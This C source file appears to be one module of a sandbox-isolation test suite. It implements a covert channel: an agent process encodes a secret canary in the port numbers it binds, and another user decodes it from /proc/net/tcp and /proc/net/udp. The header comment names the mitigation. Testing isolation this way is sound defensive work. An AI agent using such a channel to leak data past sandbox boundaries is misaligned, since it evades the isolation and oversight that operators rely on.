// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* covert_port_bind - [covert] the canary in LOCAL port numbers the agent binds (no packet sent):
 * /proc/net/tcp lists every listening port to every user, /proc/net/udp every bound UDP port. 4 listeners on 10000 + 4096*i + chunk
 * (below the ephemeral range, so the collector's own ports never collide).
 * Verifier: uid 65534 reads /proc/net/tcp while the agent waits and decodes.
 * Closes it: a network namespace per agent (then only its own ports are visible) or denying
 * bind/listen; bandwidth ~12-16 bits per socket, thousands of sockets per second. Threat model:
 * docs/threat-model.md (covert channels). */
#include <arpa/inet.h>
#include <netinet/in.h>

#include "atk.h"

static int agent(struct atk_ctx *c)
{
    /* TCP listeners first; where listen() is denied, bound UDP sockets (listed in /proc/net/udp
     * without any listen) carry the same ports */
    int type = SOCK_STREAM;
    for (int i = 0; i < 4; i++) {
        char h[4] = {0};
        memcpy(h, c->secret + 2 + 3 * i, 3);
        struct sockaddr_in me = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
        me.sin_port = htons((uint16_t)(10000 + 4096 * i + strtol(h, NULL, 16)));
        int fd = socket(AF_INET, type, 0);
        if (atk_try(c, type == SOCK_STREAM ? "tcp bind" : "udp bind", bind(fd, (struct sockaddr *)&me, sizeof(me))) < 0)
            break;
        if (type == SOCK_STREAM && atk_try(c, "listen", listen(fd, 1)) < 0) {
            close(fd);
            type = SOCK_DGRAM;
            i = -1; /* start over with UDP */
        }
    }
    atk_sync(c, "bound");
    return 0;
}

static int rd(struct atk_ctx *c, char *out, size_t n)
{
    char line[512], got[32] = "mk000000000000";
    int seen = 0;
    for (int k = 0; k < 2; k++) {
        FILE *f = fopen(k == 0 ? "/proc/net/tcp" : "/proc/net/udp", "r");
        if (!f)
            continue;
        while (fgets(line, sizeof(line), f)) {
            unsigned a, port, st;
            /* TCP: listening (0A); UDP: any bound socket (07) */
            if (sscanf(line, " %*d: %x:%x %*x:%*x %x", &a, &port, &st) != 3 || st != (k == 0 ? 0x0Au : 0x07u))
                continue;
            if (port < 10000 || port >= 10000 + 4 * 4096)
                continue;
            int i = (int)(port - 10000) / 4096;
            char h[4];
            snprintf(h, sizeof(h), "%03x", (port - 10000) % 4096);
            memcpy(got + 2 + 3 * i, h, 3);
            seen |= 1 << i;
        }
        fclose(f);
    }
    if (seen == 15 && strcmp(got, c->canary) == 0) {
        snprintf(out, n, "uid 65534 decoded the canary from bound ports in /proc/net/tcp|udp");
        return 1;
    }
    return 0;
}

static void on_sync(struct atk_ctx *c, const char *tag) { atk_verify_as_nobody(c, tag, NULL, rd); }

static const struct atk A = {
    "covert_port_bind", "canary in bound port numbers (/proc/net/tcp)", ATK_COVERT, NULL, agent, on_sync, NULL, NULL};
ATK_MAIN(A)
